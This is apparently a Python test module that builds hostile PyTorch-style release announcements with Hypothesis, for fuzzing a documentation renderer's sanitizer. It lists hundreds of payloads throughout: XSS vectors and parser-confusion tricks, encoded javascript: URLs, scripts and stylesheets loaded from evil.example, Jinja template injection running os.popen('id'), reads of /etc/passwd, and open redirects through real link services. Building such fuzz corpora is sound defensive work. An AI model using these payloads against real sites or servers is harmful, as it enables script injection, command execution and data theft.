"""Announcements and catalogs made up by Hypothesis out of everything that ever became markup, code or a request on a page.

Each payload carries a number of its own (N): what a page runs, and what it lacks, can be told by it.
"""

from __future__ import annotations

import itertools
import json
import re

from hypothesis import strategies as st

EVIL = "https://evil.example"
RAW = [
    "<script>alert(N)</script>", "<ScRiPt src=//evil.example/N.js></sCrIpT >", "<script/x>alert(N)</script\n>", "<img src=x onerror=alert(N)>",
    f"<img src={EVIL}/N.gif>", "<img/src=x/onerror=alert(N)>", "<iframe srcdoc='<script>parent.alert(N)</script>'></iframe>",
    "<iframe src=javascript:alert(N)>", f"<meta http-equiv=refresh content='0;url={EVIL}/N'>", f"<base href='{EVIL}/'>",
    f"<form action='{EVIL}/N'><button>N</button></form>", "<button formaction=javascript:alert(N)>N</button>", "<input autofocus onfocus=alert(N)>",
    f"<object data='{EVIL}/N'></object>", f"<embed src='{EVIL}/N'>", f"<video poster='{EVIL}/N' src=x onerror=alert(N)></video>",
    "<audio src onerror=alert(N)>", "<details open ontoggle=alert(N)>N</details>", "<marquee onstart=alert(N)>N</marquee>", "<dialog open>N</dialog>",
    "<body onload=alert(N)>", "<html onclick=alert(N)>", f"<table background='{EVIL}/N'><tr><td>N</td></tr></table>", "<p onclick=alert(N)>N</p>",
    "<select autofocus onfocus=alert(N)></select>", "<div contenteditable onfocus=alert(N)>N</div>", f"<portal src='{EVIL}/N'></portal>",
    f"<link rel=stylesheet href='{EVIL}/N.css'>", f"<link rel=preload as=image href={EVIL}/N>", "<applet code=N></applet>", "<keygen autofocus onfocus=alert(N)>",
]  # fmt: skip
STYLES = [
    "<style>*{display:none}</style>", f"<style>@import '{EVIL}/N.css'</style>", "<p style='position:fixed;inset:0'>N</p>",
    f"<b style=background:url({EVIL}/N)>N</b>", "<div class='md-overlay md-search__form' style='z-index:9'>N</div>", "<font color=red size=7>N</font>",
]  # fmt: skip
SPELT = [
    "&lt;script&gt;alert(N)&lt;/script&gt;", "&#60;script&#62;alert(N)&#60;/script&#62;", "&#x3c;img src=x onerror=alert(N)&#x3E;",
    "&amp;lt;script&amp;gt;alert(N)&amp;lt;/script&amp;gt;", "\\<script\\>alert(N)\\</script\\>", "＜script＞alert(N)＜/script＞", "‹script›alert(N)‹/script›",
    "<\u200bscript>alert(N)</script>", "<scr\u00adipt>alert(N)</script>", "<scr<script>ipt>alert(N)</scr</script>ipt>", "\ufe64script\ufe65alert(N)",
    "%3Cscript%3Ealert(N)%3C/script%3E", "&lt;img src=x onerror=alert(N)&gt;", "&LT;script&GT;alert(N)", "&#0060script&#0062alert(N)", "\\u003cscript\\u003ealert(N)",
]  # fmt: skip
BREAKS = [
    "</title><script>alert(N)</script>", "&lt;/title&gt;&lt;script&gt;alert(N)&lt;/script&gt;", "</textarea><script>alert(N)</script>",
    "</style><script>alert(N)</script>", "</noscript><img src=x onerror=alert(N)>", "</template><img src=x onerror=alert(N)>", "</script><script>alert(N)</script>",
    "</p></div></article></main></body></html><script>alert(N)</script>", "--><script>alert(N)</script>", "<!--><script>alert(N)</script>-->",
    "<![CDATA[><script>alert(N)</script>]]>", "]]><script>alert(N)</script>", "<?php echo '<script>alert(N)</script>' ?>", "<!DOCTYPE N [<!ENTITY x '<script>'>]>&x;",
    '"><script>alert(N)</script>', "' onmouseover='alert(N)", '" onmouseover="alert(N)" x="', "`</code><script>alert(N)</script>`", "</svg><script>alert(N)</script>",
    "</li></ul><script>alert(N)</script>", "</select><script>alert(N)</script>", "</h1><script>alert(N)</script>", "</a><img src=x onerror=alert(N)>",
]  # fmt: skip
SHIFTING = [  # what one parser reads otherwise than the next
    "<svg onload=alert(N)></svg>", "<svg><style><img src=x onerror=alert(N)></style></svg>", "<svg><a xlink:href='javascript:alert(N)'><text>N</text></a></svg>",
    "<svg><foreignObject><script>alert(N)</script></foreignObject></svg>", f"<svg><use href='data:image/svg+xml,<svg id=x onload=alert(N)>#x'></use><image href='{EVIL}/N'/></svg>",
    "<svg><animate onbegin=alert(N) attributeName=x></svg>", "<svg><set attributeName=href to=javascript:alert(N)>", '<svg></p><style><a id="</style><img src=1 onerror=alert(N)>">',
    "<svg viewBox='0 0 9 9'><path d='M0 0'/><script>alert(N)</script></svg>", '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(N)&gt;">',
    "<math href=javascript:alert(N)>N</math>", "<math><annotation-xml encoding='text/html'><script>alert(N)</script></annotation-xml></math>",
    '<noscript><p title="</noscript><img src=x onerror=alert(N)>"></noscript>', "<template><script>alert(N)</script></template>", "<textarea><img src=x onerror=alert(N)></textarea>",
    "<xmp><img title='</xmp><img src=x onerror=alert(N)>'></xmp>", "<noembed><img src='</noembed><img src=x onerror=alert(N)>'></noembed>", "<select><template><style><!--</style><img src=x onerror=alert(N)></template>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(N)>", "<table><caption><form><select><img src=x onerror=alert(N)>", "<a href='x'><a href=javascript:alert(N)>N</a></a>",
    "<p id=</p><img src=x onerror=alert(N)>", "<div id='<script>alert(N)</script>'>N</div>", "<data value='0'></data>",
]  # fmt: skip
ATTRIBUTES = [
    "N {: onclick=alert(N) }", "N {#__search onclick=alert(N)}", "N { .md-overlay style='position:fixed;inset:0' }", ":material-home:{ onclick=alert(N) }",
    "[N](https://example.org/N){: onclick=alert(N) target=_top }", "**N**{: onmouseover=alert(N) }", '{: #__search onclick="alert(N)" }', "`N`{: style=color:red }", "N {#__config data-md-component=dialog}",
    "<div markdown=1 onclick=alert(N)>*N*</div>", "![N](x.png){: onerror=alert(N) }", "N \\{: onclick=alert(N) \\}", "N {data-toc-label='</a><script>alert(N)</script>'}", "N&#123;: onclick=alert(N) &#125;",
]  # fmt: skip
THEME = [
    *(f"<div id='{name}'>N</div>" for name in ("__search", "__drawer", "__config", "__menu", "__palette_0", "__toc", "release", "L1")),
    "<h2 id=__search onclick=alert(N)>N</h2>", "<a name=__search id=__drawer>N</a>", "<label for=__drawer>N</label>", "<div data-md-component=dialog data-md-toggle=search>N</div>",
    f'<script id=__config type=application/json>{{"base":"{EVIL}/N"}}</script>', f"<div data-explorer data-rows='{EVIL}/' data-pages=9>N</div>", "<form name=getElementById id=body>N</form>", "<img name=currentScript>",
    f"<div data-compare data-stages='{EVIL}/N.json' data-root='javascript:'>N</div>", "<template data-search-dialog data-root=//evil.example/N>N</template>", f"<a data-offline=zip data-about={EVIL}>N</a>",
]  # fmt: skip
TEMPLATES = [
    "{{ 1337*1337 }}", "{% include '/etc/passwd' %}", "{{ config.__class__.__mro__[1].__subclasses__() }}", "{# N #}", "<# N #>", "${1337*1337}", "<%= 1337*1337 %>", "{%- raw %}", "{{ '<script>alert(N)</script>' | safe }}",
    "--8<-- 'mkdocs.yml'", "!include mkdocs.yml", "[TOC]", "*[HTML]: <script>alert(N)</script>", "[^1]: <script>alert(N)</script>", "!!! note '<script>alert(N)</script>'", "::: atlas.write", "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "+++ N", "$$ \\href{javascript:alert(N)}{N} $$", "```mermaid\\nclick N javascript:alert(N)\\n```", "\ue000\uf8e4\uf8e0script>alert(N)", "\x02wzxhzdk:0\x03 \x02amp\x03",
]  # fmt: skip
UNSEEN = [
    "\u202eN\u202c", "\u2066N\u2069", "\U000e0041\U000e0042N", "N\u200bN", "\x07N", "N\u2028N", "&#x202e;N", "&rlm;N", "&#x200b;N", "\ufeffN", "`\u202eN`", "\u2060N", "&#xe0041;N",
]  # fmt: skip
SCHEMES = [
    "javascript:alert(N)", "JaVaScRiPt:alert(N)", "java\tscript:alert(N)", "java&Tab;script:alert(N)", "java&NewLine;script:alert(N)", "&#106;avascript:alert(N)", "&#x6A&#x61vascript:alert(N)",
    "javascript&colon;alert(N)", "javascript&#58;alert(N)", "%6aavascript:alert(N)", "javascript%3Aalert(N)", "&#1;javascript:alert(N)", "\x01javascript:alert(N)", "&nbsp;javascript:alert(N)", "ｊavascript:alert(N)", "javascript：alert(N)",
    "java\u200bscript:alert(N)", "javascript://example.org/%0aalert(N)", "vbscript:MsgBox(N)", "data:text/html,<script>alert(N)</script>", "data:text/html;base64,PHNjcmlwdD4=", "data:image/svg+xml,<svg onload=alert(N)>", "blob:https://evil.example/N",
    "//evil.example/N", "/\\evil.example/N", "\\\\evil.example\\N", "///evil.example/N", "https:evil.example/N", "http:\\\\evil.example\\N", "/\t/evil.example/N", "file:///etc/passwd", "ftp://evil.example/N", "view-source:javascript:alert(N)",
    "feed:javascript:alert(N)", "jar:https://evil.example/N!/", "intent://evil.example/N#Intent;end", 'https://example.org/"onmouseover="alert(N)', "https://example.org/'onmouseover='alert(N)", "https://user:pass@evil.example/N", "https://[evil/N", "tel:N",
    "https://link.zhihu.com/?target=javascript%3Aalert(N)", "https://link.zhihu.com/?target=https%3A//link.zhihu.com/%3Ftarget%3Djavascript%253Aalert(N)", "https://link.zhihu.com/?target=//evil.example/N",
    "https://www.oschina.net/action/GoToLink?url=javascript%3Aalert%28N%29", "https://www.oschina.net/action/GoToLink?url=data%3Atext/html%2C%3Cscript%3Ealert(N)", "https://link.zhihu.com/?target=%6aava%09script%3aalert(N)", "../../../../N", "#__search", "?N", "",
]  # fmt: skip
FAMILIES = {
    "raw": RAW, "styles": STYLES, "spelt": SPELT, "breaks": BREAKS, "shifting": SHIFTING, "attributes": ATTRIBUTES, "theme": THEME, "templates": TEMPLATES, "unseen": UNSEEN,
    "md": [shape.replace("URL", url) for url in SCHEMES for shape in ("[N](URL)", "[N](<URL>)", "<URL>", "![N](URL)", "[N][r-N]\n\n[r-N]: URL", "[![N](URL)](URL)", '<a href="URL">N</a>')],
    "html": [shape.replace("URL", url) for url in SCHEMES for shape in ('<a href="URL">N</a>', "<a href='URL' target=_top>N</a>", '<img src="URL" alt="N">', '<area href="URL">', "<a href=URL>N</a>", '<a ping="URL" href="URL">N</a>')],
    "txt": [shape.replace("URL", url) for url in SCHEMES for shape in ("URL", "见 URL。", "N（URL）", "<URL>")],
}  # fmt: skip
EVERYWHERE = ("raw", "styles", "spelt", "breaks", "shifting", "attributes", "theme", "templates", "unseen")
SHAPES = {
    "md": ["{}", "## {}", "## {}（Beta）", "### （原型）{}", "- {}\n- （Beta）{}", "1. {}", "> {}", "**{}**", "*{}*", "| {} | 稳定 |\n|---|---|\n| {} | {} |", "```{}\nx = 1  # {}\n</code></pre>{}\n```", "    {}", "`{}`", "译者：{}", "原文：{}",
           "译者：[{}](https://example.org/N)", "<details>\n<summary>{}</summary>\n</details>", "词{}词", "<p>{}</p>", "<!-- {} -->"],
    "html": ["<p>{}</p>", "<h2>{}</h2>", "<h2>{}（Beta）</h2>", "<ul><li>{}</li><li>（Beta）{}</li></ul>", "<blockquote><p>{}</p></blockquote>", "<table><tr><th>{}</th><th>N</th></tr><tr><td>{}</td><td>{}</td></tr></table>", "<pre>{}</pre>",
             '<pre class="language-{}">x</pre>', "<p><code>{}</code></p>", "<p><b>{}</b></p>", "<p>译者：{}</p>", "<p>原文：{}</p>", "<div>{}</div>", "{}", "<p>词{}词</p>", "<!-- {} -->", "<p>\n{}\n</p>"],
    "txt": ["{}", "{} (Beta)", "- {}\n- {}", "1. {}\n2. {}", "{}，一句话。", "import torch\nx = '{}'", "译者：{}", "原文：{}", "词{}词"],
}  # fmt: skip
HEADS = {"md": "# PyTorch VERSION 发布 {}\n\n发布：2021年1月2日\n\n", "html": "<h1>PyTorch VERSION 发布 {}</h1>\n<p>发布：2021年1月2日</p>\n", "txt": "PyTorch VERSION 发布 {}\n\n发布：2021年1月2日\n\n"}  # fmt: skip
KEYS = ["title", "description", "template", "icon", "hide", "head", "tags", "search", "status", "robots", "author", "translator", "original", "publisher", "thumbnail", "canonical"]  # fmt: skip


def payloads(kind):
    """One of the payloads for a format: a family first, so that small ones come as often as large ones."""
    return st.sampled_from([*EVERYWHERE, kind, kind]).flatmap(lambda name: st.sampled_from(FAMILIES[name]))


@st.composite
def announcements(draw, kind):
    """A hostile announcement; VERSION stands where its version belongs."""
    front = "".join(
        f"{key}: {json.dumps(draw(payloads(kind)))}\n"
        for key in draw(st.lists(st.sampled_from(KEYS), max_size=4, unique=True))
    )
    parts = [HEADS[kind].replace("{}", " ".join(draw(payloads(kind)).split()))]
    for shape in draw(st.lists(st.sampled_from(SHAPES[kind]), min_size=6, max_size=14)):
        text = shape
        for _ in range(shape.count("{}")):
            payload = draw(payloads(kind))
            text = text.replace("{}", payload if shape == "{}" else " ".join(payload.split()), 1)
        parts.append(text)
    return numbered(f"---\n{front}---\n\n" * bool(front) + ("\n\n" if kind != "html" else "\n").join(parts) + "\n")


def numbered(text):
    """``text`` with a number in place of every N that is no part of a word."""
    numbers = itertools.count(1001)
    return re.sub("(?<![A-Za-z])N(?![A-Za-z])", lambda _: str(next(numbers)), text)
